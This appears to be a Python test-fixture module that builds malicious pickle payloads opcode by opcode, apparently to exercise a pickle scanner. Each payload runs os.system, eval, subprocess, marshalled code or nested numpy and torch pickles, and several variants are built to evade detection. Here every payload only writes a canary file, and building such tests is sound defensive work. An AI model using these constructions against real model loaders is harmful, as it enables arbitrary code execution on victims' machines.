"""Pickles that do harm where they are read without care; each writes a file, the canary.

They are written opcode by opcode, so that every way to name and to call something occurs.
"""

import marshal
import pickle
import struct
from collections.abc import Callable
from pathlib import Path


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def raw(value: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(value)) + value


def named(module: str, name: str) -> bytes:
    """GLOBAL: what a module holds."""
    return f"c{module}\n{name}\n".encode()


def called(function: bytes, *arguments: bytes) -> bytes:
    """REDUCE: what a function returns."""
    return function + b"(" + b"".join(arguments) + b"tR"


def program(body: bytes, protocol: int = 3) -> bytes:
    return b"\x80" + bytes([protocol]) + body + b"."


def short(value: str) -> bytes:
    """SHORT_BINUNICODE of protocol 4."""
    return b"\x8c" + bytes([len(value)]) + value.encode()


def shell(canary: Path) -> str:
    return f"touch {canary}"


def opening(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w')"


def _function(canary: Path) -> bytes:
    scope = b"}" + text("__builtins__") + called(named("builtins", "__import__"), text("builtins"))
    code = called(
        named("marshal", "loads"), raw(marshal.dumps(compile(opening(canary), "", "eval")))
    )
    return called(called(named("types", "FunctionType"), code, scope + b"s"))


def _imported(canary: Path) -> bytes:
    module = called(named("builtins", "__import__"), text("os"))
    return called(called(named("builtins", "getattr"), module, text("system")), text(shell(canary)))


def _nested(canary: Path) -> bytes:
    return raw(pickle.dumps(_System(canary)))


class _System:
    def __init__(self, canary: Path) -> None:
        self._canary = canary

    def __reduce__(self) -> tuple[object, ...]:
        import os

        return os.system, (shell(self._canary),)


Attack = Callable[[Path], bytes]

# What runs where `pickle.loads` reads it.
HARMFUL: dict[str, Attack] = {
    "REDUCE of os.system": lambda c: program(called(named("os", "system"), text(shell(c)))),
    "REDUCE of posix.system": lambda c: program(called(named("posix", "system"), text(shell(c)))),
    "protocol 0": lambda c: f"cos\nsystem\n(V{shell(c)}\ntR.".encode(),
    "builtins.eval": lambda c: program(called(named("builtins", "eval"), text(opening(c)))),
    "builtins.exec": lambda c: program(called(named("builtins", "exec"), text(opening(c)))),
    "__builtin__.eval of Python 2": lambda c: program(
        called(named("__builtin__", "eval"), text(opening(c))), 2
    ),
    "builtins.getattr of an import": lambda c: program(_imported(c)),
    "builtins.open": lambda c: program(called(named("builtins", "open"), text(str(c)), text("w"))),
    "INST": lambda c: f"(V{shell(c)}\nios\nsystem\n.".encode(),
    "OBJ": lambda c: program(b"(" + named("os", "system") + text(shell(c)) + b"o"),
    "STACK_GLOBAL": lambda c: program(
        short("os") + short("system") + b"\x93" + b"(" + text(shell(c)) + b"tR", 4
    ),
    "STACK_GLOBAL of a dotted name": lambda c: program(
        short("pathlib") + short("os.system") + b"\x93" + b"(" + text(shell(c)) + b"tR", 4
    ),
    "TUPLE1": lambda c: program(named("os", "system") + text(shell(c)) + b"\x85R"),
    "NEWOBJ of a class that opens a file": lambda c: program(
        named("numpy", "memmap")
        + b"("
        + text(str(c))
        + text("uint8")
        + text("w+")
        + b"K\x00K\x01t\x81"
    ),
    "NEWOBJ_EX": lambda c: program(
        named("numpy", "memmap")
        + b"("
        + text(str(c))
        + text("uint8")
        + text("w+")
        + b"K\x00K\x01t}\x92",
        4,
    ),
    "functools.partial": lambda c: program(
        called(called(named("functools", "partial"), named("os", "system"), text(shell(c))))
    ),
    "BUILD that gives a partial its function": lambda c: program(
        called(
            called(named("functools", "partial"), named("builtins", "print"))
            + b"("
            + named("os", "system")
            + b"("
            + text(shell(c))
            + b"t}Ntb"
        )
    ),
    "operator.methodcaller": lambda c: program(
        called(
            called(named("operator", "methodcaller"), text("touch")),
            called(named("pathlib", "PosixPath"), text(str(c))),
        )
    ),
    "builtins.map in a list": lambda c: program(
        called(
            named("builtins", "list"),
            called(named("builtins", "map"), named("os", "system"), b"(" + text(shell(c)) + b"t"),
        )
    ),
    "a function from marshalled code": lambda c: program(_function(c)),
    "subprocess.call": lambda c: program(
        called(named("subprocess", "call"), b"](" + text("touch") + text(str(c)) + b"e")
    ),
    "timeit.timeit": lambda c: program(
        called(
            named("timeit", "timeit"), text(opening(c)), text("0"), named("time", "time"), b"K\x01"
        )
    ),
    "runpy._run_code": lambda c: program(
        called(named("runpy", "_run_code"), text(opening(c)), b"}")
    ),
    "logging.FileHandler": lambda c: program(called(named("logging", "FileHandler"), text(str(c)))),
    "numpy.memmap": lambda c: program(
        called(named("numpy", "memmap"), text(str(c)), text("uint8"), text("w+"), b"K\x00K\x01")
    ),
    "an array of objects": lambda c: _array_of(_System(c)),
    "a pickle in a pickle": lambda c: program(called(named("pickle", "loads"), _nested(c))),
    "a pickle in a storage of torch": lambda c: program(
        called(named("torch.storage", "_load_from_bytes"), raw(_torch_file(_System(c))))
    ),
    "numpy.load of a file of objects": lambda c: program(
        called(named("numpy", "load"), text(_array_file(c)), b"N\x88")
    ),
    "an exception with its arguments": lambda c: program(
        called(named("builtins", "Exception"), called(named("os", "system"), text(shell(c))))
    ),
    "a memo that hides the name": lambda c: program(
        text("os")
        + b"q\x000"
        + text("system")
        + b"q\x010"
        + b"h\x00h\x01\x93"
        + b"("
        + text(shell(c))
        + b"tR",
        4,
    ),
    "behind a dictionary of weights": lambda c: program(
        b"}" + text("weight") + called(named("os", "system"), text(shell(c))) + b"s"
    ),
    "as a key": lambda c: program(b"}" + called(named("os", "system"), text(shell(c))) + b"K\x01s"),
}


def _array_of(value: object) -> bytes:
    import numpy as np

    return pickle.dumps(np.array([value], dtype=object), 3)


def _array_file(canary: Path) -> str:
    import numpy as np

    path = canary.with_name("objects.npy")
    np.save(path, np.array([_System(canary)], dtype=object))
    return str(path)


def _torch_file(value: object) -> bytes:
    import io

    import torch

    stream = io.BytesIO()
    torch.save(value, stream)
    return stream.getvalue()
